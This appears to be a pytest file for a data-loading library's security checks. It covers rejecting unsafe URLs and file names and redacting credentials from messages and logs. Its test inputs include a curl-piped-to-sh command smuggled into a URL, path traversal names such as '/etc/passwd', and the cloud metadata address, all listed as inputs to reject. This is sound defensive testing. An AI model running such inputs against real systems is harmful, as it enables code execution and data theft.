"""What data may name, and what a message may say."""

from __future__ import annotations

import logging

import pytest

from dataloaders.errors import DataError
from dataloaders.location import join
from dataloaders.storage.cache import RemoteFile
from dataloaders.storage.folder import open_folder
from dataloaders.trust import (
    RedactingFormatter,
    is_secret_name,
    key_fault,
    name_fault,
    redacted,
    url_fault,
)

CANARY = "c4nary-Secret/9+x"

GOOD_URLS = [
    "s3://bucket/folder", "S3://bucket/folder", "s3a://b/f", "gs://b/f", "https://host:8443/a/b",
    "http://127.0.0.1:9/train", "hf://datasets/user/name@v1.0/folder", "file:///mnt/data",
    "memory://x/y", "http://[::1]:80/a", "https://host/a@b",
]  # fmt: skip
BAD_URLS = [
    ("ssh://host/data", "not read from ssh://"),
    ("sftp://host/data", "not read from sftp://"),
    ("github://user:repo@/data", "holds a user name"),
    ("local:///etc", "not read from local://"),
    ("dask://x", "not read from dask://"),
    ("reference://x", "not read from reference://"),
    ("pipe://touch x", "not read from pipe://"),
    ("pipe:curl http://host/x | sh; cat s3://b/x", "not read from pipe:"),
    ("simplecache::s3://bucket/x", "not read from simplecache::s3://"),
    ("zip://a.tar::s3://bucket/x.zip", "not read from"),
    ("file://host/share", "another machine"),
    (f"s3://AKIA:{CANARY}@bucket/x", "holds a user name or a password"),
    ("https://me@host/x", "holds a user name or a password"),
    (f"https://host/x?X-Amz-Signature={CANARY}", "holds a query"),
    (f"https://host/x#{CANARY}", "holds a query"),
]


@pytest.mark.parametrize("url", GOOD_URLS)
def test_urls_that_data_are_read_from(url: str):
    assert url_fault(url) is None


@pytest.mark.parametrize(("url", "fault"), BAD_URLS)
def test_urls_that_they_are_not(url: str, fault: str):
    found = url_fault(url)
    assert found is not None
    assert fault in found
    assert CANARY not in found
    with pytest.raises(DataError) as error:
        open_folder(url).read("index.json")
    assert CANARY not in str(error.value)


GOOD_NAMES = ["shard-000000.tar", "train/shard-0.tar", "a..b.tar", "...tar", "./a.tar", "a b.tar"]
BAD_NAMES = [
    "", None, 7, ["a"], "..", "../x.tar", "a/../../x.tar", "/etc/passwd", "a\0.tar", "a\n.tar",
    "..\\x.tar", "http://169.254.169.254/latest", "pipe:touch x", "file:/etc/passwd",
    "s3://other/x.tar", "%2e%2e/x.tar", "a/%2E%2E/%2e%2e/x.tar", "%2fetc/passwd",
]  # fmt: skip


@pytest.mark.parametrize("name", GOOD_NAMES)
def test_names_in_an_index(name: str):
    assert name_fault(name) is None


@pytest.mark.parametrize("name", BAD_NAMES)
def test_names_that_leave_the_folder(name: object):
    assert name_fault(name)


def test_keys_may_have_colons():
    assert key_fault("show 12:30/clip") is None
    assert key_fault("../clip")
    assert key_fault("/clip")
    assert key_fault("a\x1b[2J")


@pytest.mark.parametrize("url", [join("s3://b", name) for name in ("..", "a/..", "x" * 300, "%2e")])
def test_what_is_kept_of_a_url_is_a_plain_name(url: str):
    name = RemoteFile(url, 1, None).cached_name
    assert "/" not in name
    assert name[32] == "-"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"s3://AKIA:{CANARY}@bucket/x: no", "s3://…@bucket/x: no"),
        (f"at 'https://me:{CANARY}@h:1/x'", "at 'https://…@h:1/x'"),
        (f"GET https://cdn/x?sig={CANARY}&e=1, 403", "GET https://cdn/x?…"),
        (f"url=URL('https://cdn/x?sig={CANARY}')", "url=URL('https://cdn/x?…')"),
        ("is it http://host:80/x@v1? yes", "is it http://host:80/x@v1? yes"),
        ("mail me@host, why?", "mail me@host, why?"),
    ],
)
def test_messages_without_credentials(text: str, shown: str):
    assert redacted(text).startswith(shown)
    assert CANARY not in redacted(text)


def test_values_of_the_environment(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("SOME_API_KEY", CANARY)
    monkeypatch.setenv("HF_TOKEN", "short")
    monkeypatch.setenv("TOKENIZERS_PARALLELISM_X", "a long enough value")
    assert redacted(f"with {CANARY}: short: a long enough value") == (
        "with …: short: a long enough value"
    )
    assert str(DataError(f"{CANARY}!")) == "…!"
    try:
        raise RuntimeError(f"https://me:{CANARY}@h/x and {CANARY}")
    except RuntimeError as error:
        record = logging.LogRecord(
            "x", logging.ERROR, "", 0, "was %s", (CANARY,), (type(error), error, None)
        )
    line = RedactingFormatter("%(message)s").format(record)
    assert "was …" in line
    assert "https://…@h/x and …" in line
    assert CANARY not in line


@pytest.mark.parametrize("name", ["secret", "AWS_SECRET_ACCESS_KEY", "key", "hf_token", "apiKey"])
def test_names_of_secrets(name: str):
    assert is_secret_name(name)


@pytest.mark.parametrize("name", ["max_tokens", "key_column", "keyframe", "tokenizer", "monkey"])
def test_names_of_none(name: str):
    assert not is_secret_name(name)
